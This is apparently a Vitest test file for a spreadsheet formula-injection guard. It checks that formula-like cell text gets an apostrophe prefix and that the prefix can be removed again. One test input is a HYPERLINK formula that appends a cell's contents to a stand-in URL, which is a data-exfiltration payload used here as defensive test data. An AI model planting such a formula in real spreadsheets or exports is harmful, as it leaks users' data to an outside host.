import { describe, expect, it } from "vitest";
import { eachText, guard, guardLines, unguard } from "../../src/tables/formulas";

const FORMULAS = [
  ...['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1"],
  ...["＝1+1", "＋1", "－1", "＠SUM(1)", "=", "'=1", "''@x", "--1", "-", "+49 170 123"],
];
const TEXTS = ["", "Ask", " =1", "a=b", "'", "'quoted'", "1-2", "–1", "5 %", "商店", '"=1"'];
const NUMBERS = ["-1", "+2", "-1.5", "-2e3", "0", "-.5"];

describe("texts that a spreadsheet would run", () => {
  it.each(FORMULAS)("%j gets a ' and loses it again", (text) => {
    expect(guard(text)).toBe(`'${text}`);
    expect(unguard(guard(text))).toBe(text);
  });

  it.each([...TEXTS, ...NUMBERS])("%j is left alone", (text) => {
    expect(guard(text)).toBe(text);
    expect(unguard(text)).toBe(text);
  });

  it("come back as they were, whatever they are made of", () => {
    const signs = ["=", "+", "-", "@", "'", '"', "\t", "\n", "\r", "1", ".", "e", " ", "a", "＝"];
    const grow = (texts: string[]) => texts.flatMap((text) => signs.map((sign) => text + sign));
    for (let texts = [""], length = 0; length <= 3; length++, texts = grow(texts)) {
      for (const text of texts) {
        const safe = guard(text);
        expect(unguard(safe)).toBe(text);
        if (/^[=+\-@\t\r\n＝＋－＠]/.test(safe)) expect(Number(safe)).not.toBeNaN();
      }
    }
  });

  it("are found in a table, where covered cells stay covered", () => {
    const table = [
      ["=1", null],
      ["-1", "Ask"],
    ];
    expect(eachText(table, guard)).toEqual([
      ["'=1", null],
      ["-1", "Ask"],
    ]);
  });

  it("are found in text of many lines, as the cells it would become", () => {
    expect(guardLines('Buy: x\n=1\tb\t@c\r\n-5\n"=1\n+x"\n [\n  "-1",')).toBe(
      "Buy: x\n'=1\tb\t'@c\r\n-5\n\"'=1\n'+x\"\n [\n  \"-1\",",
    );
  });
});
